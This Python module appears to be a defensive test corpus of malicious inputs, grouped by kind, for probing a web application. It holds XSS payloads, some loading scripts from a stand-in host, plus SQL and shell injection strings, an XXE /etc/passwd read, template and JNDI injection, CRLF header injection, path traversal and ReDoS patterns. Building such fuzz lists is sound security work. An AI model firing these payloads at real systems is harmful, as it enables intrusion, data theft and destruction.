"""Texts that mean harm, in groups. What they try is in the name of their group.

`MARK` stands in every text that tries to run a script, so that it can be found again on pages. What is no text at all
can be sent, too: `JSON_ONLY` has the insides of JSON strings as they are written, `RAW` the bytes of a form's value.
"""

import itertools
from collections.abc import Iterator
from typing import TypeVar

MARK = "moothack"
_RUN = f"{MARK}(1)"
LONG = 1_000_000
_Any = TypeVar("_Any", str, bytes)

ELEMENTS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<script\t\n/x>{_RUN}</script\n>",
    f"<script src=//{MARK}.example/x.js></script>",
    f"<script src='data:text/javascript,{_RUN}'></script>",
    f"<script type=module>import '//{MARK}.example'</script>",
    f"</script><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script><![CDATA[",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<<script>{_RUN}//<</script>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='&lt;script&gt;{_RUN}&lt;/script&gt;'></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src=javascript:{_RUN}>",
    f"<base href=//{MARK}.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<link rel=stylesheet href=//{MARK}.example/x.css>",
    f"<form action=javascript:{_RUN}><button>go</button></form>",
    f"<template><script>{_RUN}</script></template>",
    f"<portal src=javascript:{_RUN}>",
    f"<xml><i><b>&lt;img src=x onerror={_RUN}&gt;</b></i></xml>",
    f"<!--[if gte IE 4]><script>{_RUN}</script><![endif]-->",
    f"<?xml-stylesheet href='javascript:{_RUN}'?>",
    f"<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;{MARK}</x>",
)

ATTRIBUTES = (
    f"<img src=x onerror={_RUN}>",
    f"<img/src=x/onerror={_RUN}>",
    f"<img src=x oNeRrOr\n=\n{_RUN}>",
    f"<img src=x onerror=&#109;{_RUN[1:]}>",
    f"<img \x0bsrc=x onerror={_RUN}>",
    f"<img src=`x` onerror={_RUN}>",
    f"<img src='x' alt='a' onerror='{_RUN}' \"\"\">",
    f'" onmouseover={_RUN} x="',
    f"' onfocus={_RUN} autofocus x='",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f"` onclick={_RUN} `",
    f"x onpointerenter={_RUN}",
    f'" style="animation-name:x" onanimationstart="{_RUN}',
    f'" accesskey=x onclick={_RUN} "',
    f'" hx-on:click="{_RUN}" x="',
    f"<b hx-get=//{MARK}.example hx-trigger=load>x</b>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<input autofocus onfocus={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<a href=# ping=//{MARK}.example onclick={_RUN}>x</a>",
    f"<img srcset='x 1x,javascript:{_RUN} 2x'>",
)

SVG_AND_STYLE = (
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href=data:,{_RUN} /></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x>",
    f"<svg><set attributeName=href to=javascript:{_RUN}>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}/>#x'/></svg>",
    f"<svg><foreignObject><script>{_RUN}</script></foreignObject></svg>",
    f"<math href=javascript:{_RUN}>x</math>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<style>@import '//{MARK}.example/x.css';</style>",
    f"<style>*{{background:url(javascript:{_RUN})}}</style>",
    f"<div style=\"background:url('javascript:{_RUN}')\">",
    f'<div style="width:expression({_RUN})">',
    f'<div style="-moz-binding:url(//{MARK}.example/x#x)">',
    f"</style><style>body{{display:none}}/*{MARK}*/",
    f"red;}}*{{background:url(//{MARK}.example)}}",
    "<div style='position:fixed;inset:0;z-index:9999;background:red'>",
)

MUTATIONS = (
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;">',
    f'<svg></p><style><a id="</style><img src=1 onerror={_RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<p><svg><title><style><img src=x onerror={_RUN}></style></title></svg>",
    f"<select><template shadowrootmode=open><script>{_RUN}</script></template></select>",
    f"<listing>&lt;img src=x onerror={_RUN}&gt;</listing>",
    f'<xmp><p title="</xmp><img src=x onerror={_RUN}>"></xmp>',
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<!--!><img src=x onerror={_RUN}>-->",
    f"<table><td><a><table><td><img src=x onerror={_RUN}></a>",
    f'<a title="&quot;&gt;&lt;img src=x onerror={_RUN}&gt;">x</a>',
    f'<textarea><img title="</textarea><img src=x onerror={_RUN}>">',
    f"<annotation-xml encoding=text/html><style><img src=x onerror={_RUN}></style>",
)

ENCODED = (
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{_RUN}&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{_RUN}&#x3c;/script&#x3e;",
    f"&#0000060script&#0000062{_RUN}&#0000060/script&#0000062",
    f"&LT;script&GT;{_RUN}&LT;/script&GT;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"%253Cscript%253E{_RUN}%253C/script%253E",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"\u2039script\u203a{_RUN}\u2039/script\u203a",
    f"\u00bcscript\u00be{_RUN}\u00bc/script\u00be",
    f"\u02bescript>{_RUN}",
    f"\ufe64script\ufe65{_RUN}\ufe64/script\ufe65",
    f"<\u017fcript>{_RUN}</\u017fcript>",
    f"<\u212amg src=x onerror={_RUN}>",
    f"\x1b$B<script>{_RUN}</script>",
    f"PHNjcmlwdD4{MARK}",
)

LINKS = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java\nscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f" javascript:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"&#106;avascript:{_RUN}",
    f"javascript://town.example/%0a{_RUN}",
    f"javascript://https://town.example/%0d{_RUN}",
    f"vbscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"data:text/html;base64,PHNjcmlwdD4{MARK}",
    f"data:image/svg+xml,<svg onload={_RUN}>",
    f"blob:https://town.example/{MARK}",
    f"filesystem:https://town.example/{MARK}",
    f"view-source:javascript:{_RUN}",
    f"//{MARK}.example/x",
    f"\\\\{MARK}.example\\x",
    f"/\\{MARK}.example",
    f"https:{MARK}.example",
    f"https:\\\\{MARK}.example",
    f"https://town.example@{MARK}.example/",
    f'https://{MARK}.example/"onmouseover="{_RUN}',
    f"https://{MARK}.example/'><script>{_RUN}</script>",
    f"https://{MARK}.example/<script>{_RUN}</script>",
    f"https://{MARK}.example/?a=1&lt;script&gt;",
    f"https://{MARK}.example/`{_RUN}`",
    f"[x](javascript:{_RUN})",
    f"[x](JAVASCRIPT&#58;{_RUN})",
    f"[x](<javascript:{_RUN}>)",
    f'[x]: javascript:{_RUN} "x"\n[x]',
    f'![x](x"onerror="{_RUN})',
    f'[x](https://a.example "onmouseover={_RUN}")',
    f"<javascript:{_RUN}>",
    f'<https://a.example/"onclick={_RUN}>',
    f'```"><script>{_RUN}</script>\nx\n```',
    f"`<script>{_RUN}</script>`",
    "https://[::1]/", "https://[", "http://0x7f.1/", "https://a.example:99999/", "https://%00.example/", "mailto:",
)  # fmt: skip

TEMPLATES = (
    "{{ 7|add:1 }}", "{% load static %}{% debug %}", "{% include '/etc/passwd' %}", "{# x #}", "{{request.META}}",
    "{{settings.SECRET_KEY}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{7*7}}", "[[${7*7}]]", "@(7*7)",
    "${jndi:ldap://x}",
    "{name}", "{0}", "{}", "{name.__class__.__init__.__globals__}", "{count!r}", "{:>99999999}", "%s%n%s%n%s",
    "%(name)s",
    "%99999999d", "%", "%%", "%(", "%s" * 40, "$name ${name}", "%x %p %n", "{", "}", "{{", "}}", "{%", "%}",
)  # fmt: skip

QUERIES = (
    "' OR '1'='1", "'; DROP TABLE posts_post; --", '" OR ""="', "1; SELECT pg_sleep(9)", "' UNION SELECT 1,2 --",
    "admin'--", "\\'; x", "%' ESCAPE '!", "_%_%", "x' AND randomblob(999999999)/*", "'||(SELECT 1)||'", "$$x$$",
    "*)(uid=*",
    '{"$gt": ""}', "a AND NEAR/99999 b", '"unclosed', "-", "--", '-"a', "(((((((", "AND OR NOT", "a* b* *", "from:",
    "^a",
    "$(reboot)", "`reboot`", "| cat /etc/passwd", "; ls", "&& ls", "-rf /", "--help", "> /tmp/moothack", "\\\n",
    "() { :;}; echo x", "!!python/object/apply:os.system ['id']", "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)",
    '=HYPERLINK("x")',
)  # fmt: skip

PATHS = (
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%252f..%252fetc",
    "..%c0%af..%c0%afetc", "/etc/passwd", "file:///etc/passwd", "....//....//etc", ".", "..", "/", "\\", "C:\\",
    "CON", "NUL",
    "a/b", ".htaccess", "~root", "x.php.jpg", "x.svg", "//", "/./", ";", "?", "#", "%", "a" * 300,
)  # fmt: skip

CONTROLS = (
    "\x00", "a\x00b", "\x00<script>", "\x01\x02\x03\x04\x05\x06\x07", "\x08\x0b\x0c\x0e\x0f\x1a",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;x\x07", "\x7f", "\x80\x81\x8d\x8f\x90\x9d", "\x85", "\u2028", "\u2029", "\ufffe", "\uffff", "\U0001fffe",
    "\U0010ffff", "\ue000", "\ufffd", "\ufff9a\ufffab\ufffb", "\ufffc", "\x1c\x1d\x1e\x1f", "\t", "\n" * 50, " " * 50,
)  # fmt: skip

LINES = (
    f"a\r\nSet-Cookie: {MARK}=1", f"a\r\n\r\n<script>{_RUN}</script>", f"a\nBcc: {MARK}@x.example", f"a\rX-{MARK}: 1",
    f"a%0d%0aSet-Cookie:%20{MARK}=1", f"a\u560d\u560aSet-Cookie: {MARK}=1",
    f"ana@example.org\r\nBcc: {MARK}@x.example",
    f"ana@example.org>\r\nRCPT TO:<{MARK}@x.example>", f"a\r\nLocation: //{MARK}.example",
    "data: x\n\nevent: delete\ndata: 1",
)  # fmt: skip

DIRECTIONS = (
    "\u202ednet siht\u202c", "\u202e\u202e\u202e", "\u202dabc", "\u202babc", "\u202aabc", "\u202c\u202c", "\u2066abc",
    "\u2067abc", "\u2068abc", "\u2069\u2069", "\u2067\u202e\u2066\u202d", "\u2067" * 70, "gpj.\u202egnp",
    "\u200f\u200e\u061c",
    "\u05e2\u05d1\u05e8\u05d9\u05ea 123", "\u0639\u0631\u0628\u064a (abc)", "abc\u202b\u05d0\u05d1\u202c!",
    "\u202c\u2069\u202e",
)  # fmt: skip

UNSEEN = (
    "\u200b", "\u200b\u200c\u200d\u2060\ufeff", "a\u200bd\u200bm\u200bi\u200bn", "\u00ad", "\u034f",
    "\u115f\u1160\u3164\uffa0",
    "\u2800", "\u180e", "\u2061\u2062\u2063\u2064", "\U000e0041\U000e0042\U000e007f", "\U000e0001", "\ufe0f" * 20,
    "\U000e0100",
    "\u00a0\u2000\u2003\u202f\u205f\u3000", "\u17b4\u17b5", "\U0001d173\U0001d17a", "\u206a\u206f",
)  # fmt: skip

LOOKALIKES = (
    "\u0430dmin", "\u0430n\u0430", "adm\u0131n", "\uff41\uff44\uff4d\uff49\uff4e",
    "\U0001d41a\U0001d41d\U0001d426\U0001d422",
    "\u2170\u2171\ufb01\ufb03", "a\u0301 e\u0301", "\u212b\u2126\u212a", "\u0130\u0131\u017f\u1e9e\u00df\u0149",
    "paypa\u217c",
    "xn--80ak6aa92e.example", "https://\u0430pple.example", "@\u0430na", "#\u0442own", "\u01c5\u01c8", "\u1d2c\u02b0",
)  # fmt: skip

EMOJI = (
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 8, "\U0001f1e9" * 31, "\U0001f3fb" * 9,
    "1\ufe0f\u20e3",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "\u263a\ufe0e\u263a\ufe0f", ":" * 90,
    ":a:b:c:",
    "\U0001f468" + "\u200d\U0001f468" * 60, ":ana: :" + "x" * 60 + ":", "Z" + "\u0300\u0316\u0334" * 30,
    "\u0489" * 60,
    "\u0300abc", "\u0e49" * 40, "\u0651" * 40, "\U00012031" * 9, "\ufdfd" * 9, "\u102a" * 9, "\U0001f9d1\u200d" * 20,
)  # fmt: skip

NUMBERS = (
    "-1", "0", "-0", "1e309", "-1e309", "1e-999", "NaN", "Infinity", "0x10", "0b1", "1_000", "9" * 18, "9" * 19,
    "9" * 30,
    "9" * 5000, "18446744073709551616", "9223372036854775808", "-9223372036854775809", "1.5", "1,5", "\u0663\u0664",
    "\u2460",
    "1" + "0" * 400, "\uff11", "2026-02-30", "0000-00-00T00:00", "9999-12-31T23:59:59Z", "-2026-01-01",
    "10000-01-01T00:00",
    "0001-01-01T00:00:00+23:59", "9999-12-31T23:59-23:59", "2026-01-01T25:61", "2026-W01-1", "24:00", "NULL", "None",
    "null",
    "undefined", "true", "[]", "{}", "[object Object]", "Europe/../../etc", "xx-XX", "zz" * 30, "de-\u202e",
)  # fmt: skip

DEEP = (
    "<div>" * 700, "<b><i>" * 400, "[" * 3000, '{"a":' * 700, "> " * 1500 + "x", "- " * 800 + "x", "*" * 3000,
    "_a" * 1500,
    "**a " * 800, "[a](" * 800, "![" * 1200, "`" * 3001, "\\" * 3001, "&" * 3000, "<" * 3000, "@a" * 1500,
    "#a" * 1500,
    "http://" * 450, "a@" * 1500, "|" * 3000, "==a" * 1000, "\n#" * 1500, "1. " * 1000, "(" * 1500 + ")" * 1500,
    "x" * 4000,
)  # fmt: skip

PATTERNS = (
    "(a+)+$", "(a|aa)+$", "(.*a){25}", "^(\\w+\\s?)*$", "(?=(a+))a*b\\1", "\\", "[", "(?P<x", "*", "(?i)(?s).*" * 9,
    "a{99999}",
    "((((((((((a?){9}){9}){9}){9}){9}){9}){9}){9}){9})", "\\p{L}+\\X*", "(?R)", "[[:alpha:]", "a" * 30 + "!",
    "&a [*a,*a]", "a: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]", "!!python/name:os.system", "<<: *x", "? : ? :",
    "%YAML 9.9\n---",
    "[1,2,3].map(x, [1,2,3].map(y, x*y))", '"a" * 99999', 'size("a") / 0', "x.matches('(a+)+$')", "has(a.b.c)",
)  # fmt: skip

SCRIPTS = (*ELEMENTS, *ATTRIBUTES, *SVG_AND_STYLE, *MUTATIONS, *ENCODED, *LINKS)

GROUPS: dict[str, tuple[str, ...]] = {
    "elements": ELEMENTS,
    "attributes": ATTRIBUTES,
    "svg-style": SVG_AND_STYLE,
    "mutations": MUTATIONS,
    "encoded": ENCODED,
    "links": LINKS,
    "templates": TEMPLATES,
    "queries": QUERIES,
    "paths": PATHS,
    "controls": CONTROLS,
    "lines": LINES,
    "directions": DIRECTIONS,
    "unseen": UNSEEN,
    "lookalikes": LOOKALIKES,
    "emoji": EMOJI,
    "numbers": NUMBERS,
    "deep": DEEP,
    "patterns": PATTERNS,
    "long": ("x" * LONG, "<" * LONG, "\u0301" * (LONG // 2), "http://a.b/" * (LONG // 11)),
}

#: Halves of characters and the like, as they stand between the quotes of a JSON string.
JSON_ONLY = (
    b"\\ud800", b"\\udfff\\ud800", b"a\\udc00b", b"\\u0000", b"\\ud83d", b"\\uD83D\\uD83D", b"\xed\xa0\x80",
    b"\xff\xfe", b"\xc0\xaf",
    b"\xf5\x80\x80\x80", b"\\x41", b"\\", b"\n", b"\x00",
)  # fmt: skip

#: What is no UTF-8, as a form would bring it.
RAW = (
    b"\xff", b"\xc0\xaf", b"\xed\xa0\x80", b"\xed\xa0\xbd\xed\xb8\x80", b"\xf8\x88\x80\x80\x80", b"a\xe9",
    b"\xf0\x9f\x98", b"\x80" * 9,
    b"\xfe\xff\x00<", b"%", b"%zz", b"%u003c",
)  # fmt: skip


def packed(texts: tuple[str, ...], room: int) -> Iterator[str]:
    """The same texts, as many in one as `room` characters hold; longer ones alone."""
    held = ""
    for text in texts:
        if held and len(held) + 1 + len(text) > room:
            yield held
            held = ""
        held = f"{held} {text}" if held else text
    yield held


def rotating(texts: tuple[_Any, ...], count: int, turn: int) -> list[_Any]:
    """`count` of the texts, others at every turn, so that all of them come in the end."""
    start = turn * count % len(texts)
    return list(itertools.islice(itertools.cycle(texts), start, start + min(count, len(texts))))
